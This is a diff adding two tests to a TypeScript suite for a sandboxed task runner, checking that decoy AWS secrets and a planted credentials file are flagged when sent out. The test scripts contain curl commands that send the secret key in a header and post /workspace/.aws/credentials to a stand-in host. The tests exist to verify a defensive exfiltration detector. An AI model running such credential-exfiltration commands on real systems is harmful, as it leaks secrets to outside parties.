@@ -90,4 +90,26 @@ describe('onViolation', () => {
     expect((await running).status).toBe('cancelled');
     expect((await listTaskObjects(engine)).find((t) => t.task === frozen.task)).toBeUndefined();
   });
+
+  it('a decoy secret used in a request is a violation: here it stops the task', async () => {
+    const { root, events, runner } = setup();
+    const script = 'echo \\"key: ${AWS_SECRET_ACCESS_KEY:0:4}…\\"; curl -s -o /dev/null -w \\"%{http_code}\\\\n\\" -H \\"X-Api-Key: $AWS_SECRET_ACCESS_KEY\\" http://api.vendor.test/upload; sleep 30; echo never';
+    const outcome = await runner.run(specFrom(root, `name: decoyed\ncommand: ["bash", "-c", "${script}"]\nnetwork: { mode: allowlist, allow: [api.vendor.test] }\ndecoys: { env: [AWS_SECRET_ACCESS_KEY] }\nonViolation: stop\n`));
+    expect(outcome.status).toBe('stopped');
+    const violation = events.find((e) => e.kind === 'policy.violation' && e.data.rule === 'decoy');
+    expect(violation?.data.reason).toBe('the decoy $AWS_SECRET_ACCESS_KEY was sent to api.vendor.test:80');
+    expect(lines(events)).toContain('403');
+    expect(lines(events)).not.toContain('never');
+  });
+
+  it('a decoy credentials file planted in the workspace, read and posted in a body, is caught', async () => {
+    const { root, events, runner } = setup();
+    const script = 'cat /workspace/.aws/credentials | head -1; curl -s -o /dev/null -w \\"%{http_code}\\\\n\\" --data-binary @/workspace/.aws/credentials http://api.vendor.test/exfil; echo done';
+    const outcome = await runner.run(specFrom(root, `name: reader\ncommand: ["sh", "-c", "${script}"]\nnetwork: { mode: allowlist, allow: [api.vendor.test] }\ndecoys: { files: [/workspace/.aws/credentials] }\n`));
+    expect(outcome.exitCode).toBe(0);
+    expect(lines(events)[0]).toBe('[default]');
+    expect(lines(events)).toContain('403');
+    expect(events.find((e) => e.kind === 'policy.violation' && e.data.rule === 'decoy')?.data.reason).toBe('the decoy /workspace/.aws/credentials was sent to api.vendor.test:80');
+    expect(remotes.requests.some((r) => r.url === '/exfil')).toBe(false);
+  });
 });
